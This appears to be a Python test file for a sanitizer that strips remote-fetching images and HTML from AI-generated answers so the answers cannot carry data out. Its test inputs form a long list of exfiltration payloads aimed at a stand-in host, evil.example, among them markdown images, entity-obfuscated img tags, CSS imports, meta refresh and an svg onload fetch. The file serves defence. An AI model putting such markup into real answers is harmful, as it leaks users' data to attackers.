"""Images that would carry data out of an answer."""

import re

import pytest
from markdown_it import MarkdownIt

from handoff_queue.supervisor.text.sanitizing import (
    MAX_BRACKETS,
    MAX_IMAGES,
    MAX_PARSED_CHARS,
    without_foreign_images,
)

RENDERER = MarkdownIt("commonmark", {"html": True})


@pytest.mark.parametrize(
    "text",
    [
        "![](http://evil.example/?d=48713)",
        "A ![chart](https://evil.example/48713.png 'title') here.",
        "![a [b] c](<https://evil.example/x>)",
        "![a](//evil.example/x)",
        "![a](\\\\evil.example/x)",
        "![chart][c]\n\n[c]: https://evil.example/48713",
        "![Chart]\n\n[chart]: <https://evil.example/48713>",
        "![Chart][]\n\n[chart]: //evil.example/48713",
        "[![a](https://evil.example/x)](https://evil.example/y)",
        '<img src="https://evil.example/48713">',
        "<IMG alt=x SRC=https://evil.example/48713>",
        "<img\nsrcset='//evil.example/x 2x'>",
        '<div style="background: url(https://evil.example/x)">a</div>',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "![chart][\nc\n]\n\n[c]: https://evil.example/48713",
        "![a\nb](https://evil.example/48713)",
        "![" + "a" * 3_000 + "](https://evil.example/48713)",
        "![x][r\\]f]\n\n[r\\]f]: https://evil.example/48713",
        "> ![ref]\n>\n> [ref]: https://evil.example/48713",
        "![x](&#104;ttps://evil.example/48713)",
        "![x](https&colon;//evil.example/48713)",
        "![x](ftp://evil.example/48713)",
        '<img src="&#104;ttps&colon;&sol;&sol;evil.example/48713">',
        '<img src="/\t/evil.example/48713">',
        '<img alt=">" src=https://evil.example/48713>',
        '<img title="<" src=https://evil.example/48713>',
        '<img src="https:evil.example/48713">',
        '<table background="https://evil.example/48713">',
        '<style>@import "https://evil.example/48713";</style>',
        '<meta http-equiv=refresh content="0; url=https://evil.example/48713">',
        '<form action="https://evil.example/48713"><button>a</button></form>',
        '<a ping="https://evil.example/48713" href="#">a</a>',
        '<object codebase="https://evil.example/48713" data=a></object>',
        "<img " + "a" * 5_000 + ' src="https://evil.example/48713">',
        '<?xml-stylesheet href="https://evil.example/48713"?>',
        '<!DOCTYPE a SYSTEM "https://evil.example/48713">',
        '<svg/onload=fetch("https://evil.example/48713")>',
        "a ` b\n\n<img src=https://evil.example/48713>\n\nc ` d",
        "\\`<img src=https://evil.example/48713>`",
        '<a title="`"><img src=https://evil.example/48713><a title="`">',
        "<div>\n`<img src=https://evil.example/48713>`\n</div>",
        '<a title="![x](&#104;ttps://evil.example/48713)">',
    ],
)
def test_a_viewer_fetches_nothing(text: str) -> None:
    page = RENDERER.render(without_foreign_images(text))

    elements = set(re.findall(r"<([^\s>/]+)", page.lower()))
    assert elements <= {"p", "a", "blockquote", "code", "pre"}
    assert 'href="#"' not in page
    assert "evil.example" in page, "a reader still sees the address"


@pytest.mark.parametrize(
    "text",
    [
        "The price is 3 euros [1].",
        "[a link](https://site.example/x)",
        "Use `vec![1, 2]` and println![x].",
        "![local](chart.png)",
        "Great![1](#note)",
        "a < b, b > c: http://site.example",
        "Use `Vec<String>`, and ``a `<b>` c``.",
        "```html\n<img src=https://site.example/a.png>\n```",
    ],
)
def test_other_text_stays(text: str) -> None:
    assert without_foreign_images(text) == text


def test_each_image_of_an_answer_with_many_images_becomes_text() -> None:
    page = RENDERER.render(without_foreign_images("![a](chart.png) " * (MAX_IMAGES + 1)))

    assert "<img" not in page


@pytest.mark.parametrize("rest", ["a" * MAX_PARSED_CHARS, "[" * (MAX_BRACKETS + 1)])
def test_each_image_of_a_large_answer_becomes_text(rest: str) -> None:
    page = RENDERER.render(without_foreign_images("![a](chart.png)\n\n" + rest))

    assert "<img" not in page
